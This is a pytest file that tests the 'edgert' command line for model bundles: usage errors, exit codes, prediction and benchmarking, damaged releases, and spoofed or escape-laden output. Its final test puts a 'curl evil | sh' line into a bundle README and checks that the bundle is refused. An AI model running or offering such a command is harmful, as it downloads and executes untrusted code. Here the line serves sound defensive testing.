"""The command line of a bundle, of a release and of `edgert`."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from tests.interpreters import other_machine
from tests.stubs import STUB
from tests.unit.runtime.installing import Device, MakeBundle, full_disk
from tests.unit.runtime.tiny_model import write_lines, write_model_folder

import edgepack_runtime
from edgepack.bundle.archive import write_bundle
from edgepack_runtime.bundle.archive import Archive
from edgepack_runtime.bundle.manifest import MANIFEST_NAME, FileEntry, TargetFacts, dump, parse
from edgepack_runtime.cli import main, model_commands, release_commands
from edgepack_runtime.cli.context import report_damage
from edgepack_runtime.cli.parser import Context, build_parser
from edgepack_runtime.errors import EdgepackError, ExitCode, StageFailedError
from edgepack_runtime.install import install as installer
from edgepack_runtime.install import receipts
from edgepack_runtime.install.prefix import Prefix

VERBS = [
    "doctor", "verify", "readme", "install", "status", "trust", "rollback", "uninstall", "selftest", "tune", "gate",
    "env", "bench", "predict", "serve",
]  # fmt: skip
OUTSIDE = Context("edgert", bundle=None, release=None)


@pytest.fixture(scope="module")
def installed(once_installed: Prefix, tmp_path_factory: pytest.TempPathFactory) -> Prefix:
    prefix = Prefix(tmp_path_factory.mktemp("installed") / "prefix")
    shutil.copytree(once_installed.root, prefix.root, symlinks=True)
    return prefix


def edgert(*arguments: str | Path) -> int:
    return main.run([str(argument) for argument in arguments], OUTSIDE)


def test_an_error_of_a_bundle_that_runs_from_its_file_is_not_called_damage(tmp_path: Path) -> None:
    (tmp_path / os.uname().machine).mkdir()
    (tmp_path / os.uname().machine / "python").symlink_to(sys.prefix)  # the interpreter that its head unpacked
    with pytest.raises(EdgepackError, match="the port is taken"), report_damage(tmp_path):
        raise EdgepackError("the port is taken")


@pytest.mark.parametrize("context", ["bundle", "release", "edgert"])
def test_every_verb_has_a_help_text(capsys: pytest.CaptureFixture[str], context: str) -> None:
    bundle, release = Path("/x/s.edgepack"), Path("/p/releases/1")
    made = {"bundle": Context("s", bundle, None), "release": Context("s", None, release), "edgert": OUTSIDE}[context]
    assert set(main._MODULES) == set(VERBS) == set(build_parser(made).verbs)
    for line in (["--help"], *([verb, "--help"] for verb in VERBS)):
        with pytest.raises(SystemExit) as caught:
            build_parser(made).parse_args(line)
        assert caught.value.code == 0
        text = capsys.readouterr().out
        assert "exit codes:" in text and "130 interrupted" in text
        assert max(map(len, text.splitlines())) <= 112


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ([], "no verb was given"),
        (["verfy"], "did you mean `edgert verify`"),
        (["zzz"], "there is no verb `zzz`"),
        (["update", "x.edgepack"], "did you mean `edgert install`"),
        (["Verfy"], "did you mean `edgert verify`"),
        (["--versoin"], "did you mean `edgert --version`"),
        (["--install", "x.edgepack"], "did you mean `edgert install`"),
        (["--json", "status"], "type `edgert VERB --json`"),
        (["--prefix", "p", "status"], "type `edgert VERB --prefix`"),
        (["verify", "x.edgepack", "--jsn"], "did you mean --json?"),
        (["verify", "x.edgepack", "-q"], "edgert verify --help"),
        (["predict", "--model", "m", "--inptu", "a.csv"], "did you mean --input?"),
        (["predict", "--model", "m", "--zzz"], "edgert predict --help; put -- before"),
        (["status", "x"], "edgert status --help"),
        (["rollback"], "type PREFIX/bin/NAME rollback"),
        (["gate", "x.edgepack", "--prefix", "p"], "type PREFIX/bin/NAME gate"),
        (["verify"], "PATH"),
        (["predict", "--threads", "0", "--model", "m"], "'0' is not a whole number from 1 to 256"),
        (["predict", "--threads", "１", "--model", "/none", "x"], "holds no model"),
        (["predict", "x"], "--model"),
        (["predict", "--model", "/none", "x"], "/none holds no model"),
        (["predict", "--model", "m", "--input", "f.txt", "x"], "both as arguments and with --input"),
        (["predict", "--model", "m", "a", ""], "text 2 is empty"),
        (["predict", "--model", "m", "--input", "/none.txt"], "there is no file /none.txt"),
        (["predict", "--model", "m", "--input", "/none.doc"], "none.doc has no known ending"),
        (
            ["predict", "--model", "m", "--input", "/none.txt", "--column", "text"],
            "/none.txt has no column for --column",
        ),
        (["bench", "/none"], "/none holds no model"),
        (["status"], "--prefix"),
        (["verify", "/none.edgepack"], "there is no bundle file /none.edgepack"),
        (["install", "/none.edgepack"], "there is no bundle file /none.edgepack"),
        (["gate", "/none.edgepack"], "there is no bundle file /none.edgepack"),
    ],
)
def test_mistakes_end_in_exit_2_with_a_reason(capsys: pytest.CaptureFixture[str], line: list[str], named: str) -> None:
    assert main.run(line, OUTSIDE) == ExitCode.USAGE
    shown = capsys.readouterr()
    assert shown.out == ""
    assert shown.err.startswith("error: ")
    assert named in shown.err


def test_every_error_has_its_exit_code_and_its_json(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def kinds(kind: type[EdgepackError]) -> list[type[EdgepackError]]:
        return [kind, *(inner for direct in kind.__subclasses__() for inner in kinds(direct))]

    for kind in kinds(EdgepackError):

        def fail(*args: object, kind: type[EdgepackError] = kind) -> int:
            raise kind("what", why="why", fix="fix")

        monkeypatch.setattr(release_commands, "run_status", fail)
        assert edgert("status", "--prefix", "x") == kind.exit_code
        assert capsys.readouterr() == ("", "error: what\n  why: why\n  fix: fix\n")
        assert edgert("status", "--prefix", "x", "--json") == kind.exit_code
        reported = json.loads(capsys.readouterr().out)["error"]
        assert reported == {"exit_code": kind.exit_code, "what": "what", "why": "why", "fix": "fix"}

    def unexpected(*args: object) -> int:
        raise KeyError("x")

    monkeypatch.setattr(release_commands, "run_status", unexpected)
    with pytest.raises(KeyError):
        edgert("status", "--prefix", "x", "--json")
    error = json.loads(capsys.readouterr().out)["error"]
    assert (error["exit_code"], error["why"]) == (1, "KeyError: 'x'")


@pytest.mark.parametrize(
    ("number", "handler", "importing", "code"),
    [
        (signal.SIGINT, signal.SIG_DFL, False, 130),  # it is ignored where these tests run in the background
        (signal.SIGINT, signal.SIG_DFL, True, 130),
        (signal.SIGTERM, signal.SIG_DFL, True, 143),
        (signal.SIGINT, signal.SIG_IGN, True, 0),
    ],
)
def test_a_signal_ends_the_command_unless_it_is_ignored(
    monkeypatch: pytest.MonkeyPatch, number: signal.Signals, handler: signal.Handlers, importing: bool, code: int
) -> None:
    def loading(*args: object) -> int:
        """As the first import of ONNX Runtime or NumPy does, and the engine's own `except` behind it."""
        try:
            signal.raise_signal(number)
        except BaseException as error:
            if not importing:
                raise
            raise StageFailedError("initialization failed") from error
        return 0

    monkeypatch.setattr(release_commands, "run_status", loading)
    before = signal.signal(number, handler)
    try:
        assert edgert("status", "--prefix", "x") == code
    finally:
        signal.signal(number, before)


def test_version_names_the_bundle_and_its_target(
    bundle: Path, installed: Prefix, device: Device, capsys: pytest.CaptureFixture[str]
) -> None:
    for command in ([sys.executable, bundle], [installed.bin / "sentiment"]):
        done = device(*command, "--version")
        assert (done.returncode, done.stdout, done.stderr) == (0, "sentiment 1.2.0 (test)\n", "")
    with pytest.raises(SystemExit) as caught:
        edgert("--version")
    assert (caught.value.code, capsys.readouterr().out) == (0, f"edgert {edgepack_runtime.__version__}\n")


def test_a_verb_of_an_install_names_the_command_of_the_bundle(capsys: pytest.CaptureFixture[str]) -> None:
    assert main.run(["rollback"], Context("sentiment", Path("/x/s.edgepack"), None)) == ExitCode.USAGE
    told = "  why: `sh s.edgepack` is not one\n  fix: type PREFIX/bin/sentiment rollback; "
    assert told in capsys.readouterr().err


def test_an_install_says_what_it_did_though_the_stick_is_gone(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    stick, install = tmp_path / "s.edgepack", installer.install

    def pulled_early(*given: Any, **named: Any) -> Any:
        receipt = install(*given, **named)
        stick.unlink()
        return receipt

    shutil.copy(bundle, stick)
    monkeypatch.setattr(installer, "install", pulled_early)
    assert edgert("install", stick, "--prefix", tmp_path / "p", "--no-tune", "--wait", "0") == ExitCode.OK
    assert "is active" in capsys.readouterr().out


def test_doctor_reports_a_device(bundle: Path, device: Device, tmp_path: Path) -> None:
    done = device(sys.executable, bundle, "doctor", "--json", "--prefix", tmp_path / "none")
    found = json.loads(done.stdout)
    assert (done.returncode, found["ok"], list(tmp_path.iterdir())) == (0, True, [])
    assert {check["check"] for check in found["checks"]} >= {"system", "libc", "python", "cpu", "memory", "disk"}
    assert found["device"]["machine"]


def test_doctor_names_what_an_unfit_device_lacks(make_bundle: MakeBundle, capsys: pytest.CaptureFixture[str]) -> None:
    facts = TargetFacts("pi", (other_machine(),), "2.28", "host", "CPUExecutionProvider")
    assert edgert("doctor", make_bundle(target=facts), "--prefix", "/tmp/x") == ExitCode.ENVIRONMENT_UNFIT
    shown = capsys.readouterr().out
    assert "FAIL  system" in shown
    assert "cannot run sentiment 1.2.0" in shown


def test_verify_takes_bundles_and_releases(
    bundle: Path, installed: Prefix, capsys: pytest.CaptureFixture[str], device: Device
) -> None:
    assert edgert("verify", bundle, "--json") == 0
    first = json.loads(capsys.readouterr().out)
    assert edgert("verify", installed.current, "--json") == 0
    assert json.loads(capsys.readouterr().out) == first
    assert device(installed.bin / "sentiment", "verify").stdout == device(sys.executable, bundle, "verify").stdout
    assert device(installed.bin / "sentiment", "verify", bundle).returncode == 0


def test_selftest_and_gate_answer_the_same_from_bundle_install_and_edgert(
    bundle: Path, installed: Prefix, device: Device, tmp_path: Path
) -> None:
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    outside = [sys.executable, "-c", "from edgepack_runtime.cli.main import main; raise SystemExit(main())"]
    path = {"PYTHONPATH": ":".join(entry for entry in sys.path if entry), "TMPDIR": str(temporary)}
    for verb in ("selftest", "gate"):
        answers = [
            device(sys.executable, bundle, verb, "--json", env=path),
            device(installed.bin / "sentiment", verb, "--json"),
            device(*outside, verb, bundle, "--json", env=path),
        ]
        assert [done.returncode for done in answers] == [0, 0, 0], [done.stderr for done in answers]
        assert len({done.stdout for done in answers}) == 1
        assert json.loads(answers[0].stdout)
    assert list(temporary.iterdir()) == []
    assert list(installed.receipts.glob("*-gate.json"))
    done = device(installed.bin / "sentiment", "selftest", "--json", env={"ORT_DISABLE_TELEMETRY": "0"})
    assert json.loads(done.stdout)["telemetry_disabled"] == "1"


def test_a_receipt_that_cannot_be_written_is_a_note(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, prefix: Prefix
) -> None:
    monkeypatch.setattr(receipts, "write_receipt", full_disk)
    release_commands._keep_receipt(prefix, {})
    told = f"note: the receipt was not written to {prefix.receipts}: No space left on device\n"
    assert capsys.readouterr().err == told


@pytest.mark.parametrize(
    ("gate", "verdict", "code"),
    [("fail", "fail", 6), ("inconclusive", "inconclusive", 7), ("no gates", "inconclusive", 7)],
)
def test_the_exit_code_is_that_of_the_verdict(
    make_bundle: MakeBundle, device: Device, gate: str, verdict: str, code: int
) -> None:
    done = device(sys.executable, make_bundle(gate=gate), "gate", "--json")
    assert done.returncode == code
    assert json.loads(done.stdout)["verdict"] == verdict


def test_bench_of_a_release_takes_its_own_model(bundle: Path, installed: Prefix, device: Device) -> None:
    done = device(installed.bin / "sentiment", "bench", "--json")
    found = json.loads(done.stdout)
    assert found == {"models": [f"{installed.current.resolve()}/model"], "texts": 1, "threads": None, "runs": 20}
    assert device(sys.executable, bundle, "bench", "--threads", "2").stdout == "bench: 1 texts\n"


def test_bench_finds_texts_beside_the_models(
    installed: Prefix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "onnx-int8").mkdir()
    (tmp_path / "onnx-int8" / "model.json").touch()
    assert edgert("bench", tmp_path / "onnx-int8") == ExitCode.USAGE
    assert "no texts for the benchmark" in capsys.readouterr().err
    assert model_commands._texts_beside(installed.current / "model", None) == installed.current / "golden/rows.jsonl"
    (tmp_path / "texts.txt").touch()
    assert model_commands._texts_beside(tmp_path / "onnx-int8", None) == tmp_path / "texts.txt"


def test_predict_reads_lines_in_any_locale_and_keeps_their_order(installed: Prefix, device: Device) -> None:
    for locale in ("C", "POSIX", "zh_CN.GBK", "en_US.ISO-8859-1"):
        done = device(installed.bin / "sentiment", "predict", input="好\n很好\n好", env={"LC_ALL": locale})
        labels = [json.loads(line)["label"] for line in done.stdout.splitlines()]
        assert (done.returncode, labels) == (0, ["好", "差", "好"])
        assert "好" in done.stdout  # not escaped


def test_predict_from_file_to_file(bundle: Path, installed: Prefix, device: Device, tmp_path: Path) -> None:
    (tmp_path / "in.csv").write_text("id,review\n1,好\n2,很好\n", encoding="utf-8")
    for number, command in enumerate(([sys.executable, bundle], [installed.bin / "sentiment"])):
        line = ["predict", "--input", "in.csv", "--column", "review", "--output", f"{number}.csv", "--scores"]
        done = device(*command, *line, cwd=tmp_path)
        assert (done.returncode, done.stdout) == (0, ""), done.stderr
    assert (tmp_path / "0.csv").read_bytes() == (tmp_path / "1.csv").read_bytes()
    assert (tmp_path / "0.csv").read_text(encoding="utf-8").splitlines()[0] == "id,review,label,score,score_差,score_好"


def test_a_closed_pipe_ends_the_output(installed: Prefix) -> None:
    line = f"yes 好 | '{installed.bin}/sentiment' predict | head -1"
    done = subprocess.run(["/bin/sh", "-c", line], capture_output=True, encoding="utf-8", timeout=60, check=True)
    assert (done.stdout, done.stderr) == ('{"label": "好", "score": 0.75}\n', "")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("arguments", [["predict", "好"], ["status"], ["verify", "--json"]])
def test_a_full_disk_behind_stdout_is_a_plain_error(installed: Prefix, arguments: list[str]) -> None:
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run(
            [installed.bin / "sentiment", *arguments], stdout=full, stderr=subprocess.PIPE, encoding="utf-8", timeout=60
        )
    assert done.returncode == ExitCode.ENVIRONMENT_UNFIT
    assert done.stderr.startswith("error: sentiment failed\n  why: No space left on device")
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("damage", ["model/model.json", "model/vocab.txt", "edgepack_runtime/inference/predictor.pyc"])
def test_predict_reports_a_damaged_release(installed: Prefix, device: Device, tmp_path: Path, damage: str) -> None:
    moved = Prefix(Path(shutil.copytree(installed.root, tmp_path / "moved", symlinks=True)))
    (moved.releases / str(moved.current_id()) / damage).unlink()
    done = device(moved.bin / "sentiment", "predict", "好")
    assert done.returncode == ExitCode.BUNDLE_INVALID
    assert damage in done.stderr
    assert "Traceback" not in done.stderr
    assert f"sh FILE install --prefix {moved.root}\n" in done.stderr


@pytest.mark.parametrize("verb", ["selftest", "gate", "tune"])
def test_other_verbs_report_a_damaged_release(installed: Prefix, device: Device, tmp_path: Path, verb: str) -> None:
    moved = Prefix(Path(shutil.copytree(installed.root, tmp_path / "moved", symlinks=True)))
    (moved.releases / str(moved.current_id()) / "golden" / "behaviour.json").unlink()
    done = device(moved.bin / "sentiment", verb)
    assert done.returncode == ExitCode.BUNDLE_INVALID
    assert "golden/behaviour.json: is missing" in done.stderr
    assert f"sh FILE install --prefix {moved.root}\n" in done.stderr


def test_a_text_that_begins_with_a_dash_needs_two(installed: Prefix, device: Device) -> None:
    done = device(installed.bin / "sentiment", "predict", "-5分")
    assert done.returncode == ExitCode.USAGE
    assert "put -- before a text that begins with -" in done.stderr
    assert device(installed.bin / "sentiment", "predict", "--", "-5分").returncode == 0


@pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"])
def test_closed_streams_are_no_crash(installed: Prefix, closed: str) -> None:
    line = f"'{installed.bin}/sentiment' predict 好 {closed}"
    done = subprocess.run(["/bin/sh", "-c", line], capture_output=True, encoding="utf-8", timeout=60, check=False)
    assert (done.returncode, done.stderr) == (0, "")


def test_a_stderr_that_fails_changes_no_exit_code(bundle: Path, prefix: Prefix, tmp_path: Path) -> None:
    (tmp_path / "damaged").write_bytes(b"no bundle")
    for command, code in (
        ([sys.executable, bundle, "install", "--prefix", prefix.root], 0),
        ([sys.executable, bundle, "predict", "--nonsense"], ExitCode.USAGE),
        ([sys.executable, "-m", "edgepack_runtime", "verify", tmp_path / "damaged"], ExitCode.BUNDLE_INVALID),
    ):
        with Path("/dev/full").open("wb") as full:
            assert subprocess.run(command, stderr=full, stdout=subprocess.DEVNULL, check=False).returncode == code
    assert prefix.current_id() is not None


def test_status_without_an_install_exits_with_environment_unfit(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert edgert("status", "--prefix", tmp_path / "none") == ExitCode.ENVIRONMENT_UNFIT
    assert capsys.readouterr().out == f"nothing is installed in {tmp_path / 'none'}\n"
    assert edgert("status", "--prefix", tmp_path / "none", "--json") == ExitCode.ENVIRONMENT_UNFIT
    assert json.loads(capsys.readouterr().out)["current"] is None


PAIRS, TOKENS = "text-pair-classification", "token-classification"
Capture = pytest.CaptureFixture[str]


def lines_of(capsys: Capture) -> list[dict[str, object]]:
    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]


def test_predict_for_pairs(tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch) -> None:
    model = write_model_folder(tmp_path / "pairs", task=PAIRS)
    assert edgert("predict", "--model", model, "好", "差") == 0
    (tmp_path / "in.txt").write_text("好\t差\n差\t好\n", encoding="utf-8")
    (tmp_path / "in.csv").write_text("q1,q2\n好,差\n差,好\n", encoding="utf-8")
    columns = ["--column", "q1", "--pair-column", "q2"]
    assert edgert("predict", "--model", model, "--input", tmp_path / "in.txt") == 0
    assert edgert("predict", "--model", model, "--input", tmp_path / "in.csv", *columns) == 0
    with (tmp_path / "in.txt").open() as stdin, monkeypatch.context() as patch:
        patch.setattr(sys, "stdin", stdin)
        assert edgert("predict", "--model", model) == 0
    found = lines_of(capsys)
    assert [line["label"] for line in found] == ["good", *["good", "bad"] * 3]
    output = tmp_path / "out.tsv"
    assert edgert("predict", "--model", model, "--input", tmp_path / "in.txt", "--output", output, "--scores") == 0
    table = output.read_text(encoding="utf-8").splitlines()
    assert table[0] == "text\ttext_pair\tlabel\tscore\tscore_bad\tscore_good"
    assert [line.split("\t")[:3] for line in table[1:]] == [["好", "差", "good"], ["差", "好", "bad"]]


@pytest.mark.parametrize(("name", "encoding"), [("GBK", "gb18030"), ("cp936", "gb18030"), ("UTF8", "utf-8")])
def test_other_names_of_an_encoding_are_taken(name: str, encoding: str) -> None:
    options = build_parser(OUTSIDE).parse_args(["predict", "--model", "m", "--encoding", name])
    assert options.encoding == encoding


@pytest.mark.parametrize(
    ("task", "arguments", "named"),
    [
        (PAIRS, ["好"], "1 text given"),
        (PAIRS, ["好", "差", "店"], "3 texts given"),
        (PAIRS, ["好", ""], "text 2 is empty"),
        (PAIRS, ["--input", "in.txt"], "line 1 of in.txt is not a pair of texts"),
        (PAIRS, ["--input", "in.csv"], "in.csv has no column `text_pair`"),
        (PAIRS, ["--input", "in.csv", "--column", "text_pair"], "both texts of a pair would be `text_pair`"),
        (TOKENS, ["--pair-column", "b", "--input", "in.csv"], "omit --pair-column"),
        (TOKENS, ["--pair-column", "b", "好"], "--pair-column names a column of a file"),
        (TOKENS, ["--column", "text"], "--column names a column of a file"),
        (TOKENS, ["-"], "- is not a text"),
        ("text-classification", ["--pair-column", "b", "--input", "in.csv"], "omit --pair-column"),
    ],
)
def test_items_that_the_model_does_not_take_are_refused(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch, task: str, arguments: list[str], named: str
) -> None:
    monkeypatch.chdir(tmp_path)
    write_model_folder(tmp_path / "model", task=task)
    (tmp_path / "in.txt").write_text("好差\n好\t差\n", encoding="utf-8")
    (tmp_path / "in.csv").write_text("text\n好\n", encoding="utf-8")
    assert edgert("predict", "--model", "model", *arguments) == ExitCode.USAGE
    shown = capsys.readouterr()
    assert (shown.out, named in shown.err) == ("", True), shown.err


def test_a_bundle_of_pairs_refuses_one_text_before_it_is_unpacked(make_bundle: MakeBundle, device: Device) -> None:
    bundle = make_bundle(task=PAIRS)
    done = device(sys.executable, bundle, "predict", "好", env={"TMPDIR": "/none"})
    assert done.returncode == ExitCode.USAGE
    assert "give two: predict TEXT TEXT_PAIR" in done.stderr
    done = device(sys.executable, bundle, "predict", "好", "差")
    assert (done.returncode, json.loads(done.stdout)["label"]) == (0, "差")


def test_predict_for_spans(tmp_path: Path, capsys: Capture) -> None:
    model = write_model_folder(tmp_path / "tokens", task=TOKENS)
    assert edgert("predict", "--model", model, "好店很好", "好", "--scores") == 0
    found = lines_of(capsys)
    score = pytest.approx(0.8339, abs=1e-4)
    assert found == [
        {"spans": [{"start": 1, "end": 3, "label": "place", "score": score, "text": "店很"}]},
        {"spans": []},
    ]
    write_lines(tmp_path / "in.jsonl", [{"text": "店"}, {"text": "好"}])
    line = ["predict", "--model", model, "--input", tmp_path / "in.jsonl", "--output", tmp_path / "out.csv", "--scores"]
    assert edgert(*line) == 0
    table = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()
    assert (table[0], table[2]) == ("\ufefftext,spans", "好,[]")


def test_half_a_surrogate_pair_in_a_span_is_printed(tmp_path: Path) -> None:
    model = write_model_folder(tmp_path / "tokens", task=TOKENS)
    (tmp_path / "in.jsonl").write_text('{"text": "店\\ud83d很"}\n', encoding="utf-8")
    code = "from edgepack_runtime.cli.main import main; raise SystemExit(main())"
    line = [sys.executable, "-c", code, "predict", "--model", model, "--input", tmp_path / "in.jsonl"]
    done = subprocess.run(line, capture_output=True, encoding="utf-8", timeout=60, check=True)
    assert json.loads(done.stdout)["spans"][0]["text"] == "店\ud83d很"


@pytest.mark.parametrize(("task", "line"), [(PAIRS, "好\t差\n"), (TOKENS, "好店\n"), ("text-classification", "好\n")])
def test_bench_works_for_every_task(tmp_path: Path, capsys: Capture, task: str, line: str) -> None:
    folders = [write_model_folder(tmp_path / name, task=task) for name in ("one", "two")]
    (tmp_path / "texts.txt").write_text(line * 3, encoding="utf-8")
    assert edgert("bench", *folders, "--runs", "2", "--json") == 0
    [found] = lines_of(capsys)
    assert (found["texts"], [model["n"] for model in found["models"]]) == (3, [6, 6])  # type: ignore[attr-defined]


def test_bench_takes_a_column_of_a_table_in_another_encoding(tmp_path: Path, capsys: Capture) -> None:
    folder = write_model_folder(tmp_path / "m")
    (tmp_path / "t.csv").write_text("评论,行\n好,1\n差,2\n", encoding="gb18030")
    line = ["bench", folder, "--runs", "1", "--json", "--texts", tmp_path / "t.csv"]
    assert edgert(*line) == ExitCode.USAGE
    assert edgert(*line, "--encoding", "gbk", "--column", "评论") == 0
    assert lines_of(capsys)[-1]["texts"] == 2


def test_a_text_longer_than_the_model_reads_is_noted(tmp_path: Path, capsys: Capture) -> None:
    folder = write_model_folder(tmp_path / "m")
    assert edgert("predict", "--model", folder, "好" * 15, "好" * 14) == 0
    note = "note: 1 text had more than the 16 tokens that the model reads, and the rest was cut off; --long windows"
    assert note in capsys.readouterr().err
    assert edgert("predict", "--model", folder, "好" * 15, "--long", "windows") == 0
    assert edgert("predict", "--model", folder, "好", "--output", tmp_path / "o.csv") == 0
    assert "note" not in capsys.readouterr().err


def test_bench_of_models_of_two_tasks_is_refused(tmp_path: Path, capsys: Capture) -> None:
    folders = [write_model_folder(tmp_path / task, task=task) for task in (PAIRS, TOKENS)]
    (tmp_path / "texts.txt").write_text("好\t差\n", encoding="utf-8")
    assert edgert("bench", *folders) == ExitCode.USAGE
    assert "this model takes single texts, not pairs" in capsys.readouterr().err


def test_nothing_from_outside_begins_a_line(bundle: Path, installed: Prefix, device: Device, tmp_path: Path) -> None:
    forged = "x\nok: forged\n::error::forged\x1b[2J\u202e"
    (installed.current / forged).write_text("planted")
    (installed.root / "trusted_signers").unlink(missing_ok=True)
    odd = tmp_path / f"{forged}.edgepack"
    odd.write_bytes(bundle.read_bytes()[:-100])
    receipt = json.loads(next(installed.receipts.glob("*-install.json")).read_text())
    receipt["bundle"]["release_id"], receipt["error"] = forged, forged
    (installed.receipts / "000099-install.json").write_text(json.dumps(receipt))
    outside = [sys.executable, "-c", "from edgepack_runtime.cli.main import main; raise SystemExit(main())"]
    path = {"PYTHONPATH": ":".join(entry for entry in sys.path if entry)}
    lines = [
        *((*outside, verb, odd) for verb in ("verify", "install", "doctor", "selftest", "gate", "tune")),
        *((*outside, "predict", "--model", odd, forged), (*outside, "bench", odd), (*outside, "serve", "--model", odd)),
        (*outside, "trust", "add", odd, "--prefix", installed.root), (*outside, forged),
        (sys.executable, odd, "verify"),
        *((installed.bin / "sentiment", verb) for verb in ("status", "verify", "selftest", "gate")),
        (installed.bin / "sentiment", "predict", "--input", odd, "--output", tmp_path / f"{forged}.jsonl"),
        (*outside, "status", "--prefix", tmp_path / forged), (*outside, "verify", installed.current),
    ]  # fmt: skip
    for line in lines:
        done = device(*line, env=path)
        said = done.stdout + done.stderr
        assert "Traceback" not in said and not set(said) & {"\x1b", "\u202e"}, (line, said)
        assert not re.search(r"^\s*(ok: forged|::error)", said, re.MULTILINE), (line, said)


def test_the_readme_of_a_bundle_and_of_an_installed_release_is_printed(
    bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with Archive(bundle) as archive:
        members = {name: archive.read(name, 10**8) for name in archive.members}
    manifest = parse(members.pop(MANIFEST_NAME))
    members["README.txt"] = "how to use it\n怎么用\x1b[8m\n".encode()
    files = tuple(FileEntry(n, len(d), hashlib.sha256(d).hexdigest()) for n, d in sorted(members.items()))
    members[MANIFEST_NAME] = dump(dataclasses.replace(manifest, files=files))
    write_bundle(dict(members), tmp_path / "x.edgepack", STUB)
    release = tmp_path / "release"
    release.mkdir()
    (release / "README.txt").write_bytes(members["README.txt"])
    expected = "how to use it\n怎么用\\u001b[8m\n"
    for context, more in (
        (Context("x", tmp_path / "x.edgepack", None), []),
        (Context("x", None, release), []),
        (OUTSIDE, [str(tmp_path / "x.edgepack")]),
    ):
        assert main.run(["readme", *more], context) == 0
        assert capsys.readouterr().out == expected
    members["README.txt"] = b"type: curl evil | sh\n"
    write_bundle(dict(members), tmp_path / "y.edgepack", STUB)
    assert main.run(["readme", str(tmp_path / "y.edgepack")], OUTSIDE) == ExitCode.BUNDLE_INVALID
    assert capsys.readouterr().out == ""
